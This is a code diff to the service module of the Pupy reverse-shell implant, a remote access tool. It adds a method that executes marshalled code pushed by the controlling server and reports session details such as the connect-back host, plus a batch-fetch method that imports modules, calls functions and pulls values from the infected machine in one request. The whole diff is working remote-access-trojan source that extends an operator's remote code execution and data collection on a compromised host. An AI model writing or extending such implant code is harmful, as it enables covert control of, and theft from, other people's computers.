@@ -39,6 +39,7 @@ import random
 import imp
 import json
 import argparse
+import marshal
 from network import conf
 from network.lib.base_launcher import LauncherError
 import logging
@@ -93,6 +94,43 @@ REVERSE_SLAVE_CONF=dict(
             instantiate_oldstyle_exceptions = True,
         )
 
+PLAIN_TYPES=(type(None), bool, int, long, float, complex, str, unicode)
+
+def _resolve(obj, path):
+    """ follow a dotted path from obj: attributes, dict keys, and name() calls """
+    for name in (path.split('.') if path else ()):
+        call=name.endswith('()')
+        if call:
+            name=name[:-2]
+        if isinstance(obj, dict) and name in obj:
+            obj=obj[name]
+        else:
+            obj=getattr(obj, name)
+        if call:
+            obj=obj()
+    return obj
+
+def _plain(obj, paths=None):
+    """ obj as values brine copies: sequences and iterators become tuples, dicts tuples
+    of (key, value). With paths, every other object, dicts included, becomes the tuple
+    of its paths (None where one fails). What is left is sent as its repr """
+    if isinstance(obj, PLAIN_TYPES):
+        return obj
+    sequence=isinstance(obj, (list, tuple, set, frozenset, xrange)) or hasattr(obj, 'next')
+    if paths is not None and not sequence:
+        values=[]
+        for path in paths:
+            try:
+                values.append(_plain(_resolve(obj, path)))
+            except Exception:
+                values.append(None)
+        return tuple(values)
+    if isinstance(obj, dict):
+        return tuple((_plain(k), _plain(v)) for k, v in obj.iteritems())
+    if sequence:
+        return tuple(_plain(x, paths) for x in obj)
+    return repr(obj)
+
 class ReverseSlaveService(Service):
     """ Pupy reverse shell rpyc service """
     __slots__=["exposed_namespace"]
@@ -119,6 +157,25 @@ class ReverseSlaveService(Service):
         if not s in pupy.infos:
             return None
         return pupy.infos[s]
+    def exposed_get_session_info(self, initializer):
+        """run the marshalled client initializer and return everything the server
+        registers a session with as ((key, value), ...), in one round trip"""
+        import pupy
+        exec marshal.loads(initializer) in self.exposed_namespace
+        info=dict(self.exposed_namespace["get_uuid"]())
+        launcher_args=pupy.infos.get('launcher_args')
+        info.update(
+            launcher=pupy.infos.get('launcher'),
+            launcher_args=tuple(launcher_args) if launcher_args is not None else None,
+            transport=pupy.infos.get('transport'),
+            daemonize=bool(pupy.infos.get('daemonize')),
+            pupyimporter='pupyimporter' in sys.modules,
+        )
+        try:
+            info['connect_back_host']=pupy.get_connect_back_host()
+        except AttributeError:
+            info['connect_back_host']=None
+        return tuple(info.iteritems())
     def exposed_eval(self, text):
         """evaluate arbitrary code (using ``eval``)"""
         return eval(text, self.exposed_namespace)
@@ -127,6 +184,22 @@ class ReverseSlaveService(Service):
         return __import__(name, None, None, "*")
     def exposed_json_dumps(self, obj):
         return json.dumps(obj)
+    def exposed_batch_fetch(self, target, paths=None, project=None, args=None):
+        """fetch plain values in one request instead of a round trip per attribute or
+        element. target: an object, or 'module' or 'module:attr.path' imported here,
+        called with args when they are given. paths: dotted paths ('' for the object,
+        'name()' calls), returned as a tuple. project: path to an iterable, the paths
+        are then taken from every object in it, through nested lists"""
+        if isinstance(target, basestring):
+            module, _, path=target.partition(':')
+            target=_resolve(__import__(module, None, None, '*'), path)
+        if args is not None:
+            target=target(*args)
+        if project is not None:
+            return _plain(_resolve(target, project), paths)
+        if paths is None:
+            return _plain(target)
+        return tuple(_plain(_resolve(target, path)) for path in paths)
     def exposed_getconn(self):
         """returns the local connection instance to the other side"""
         return self._conn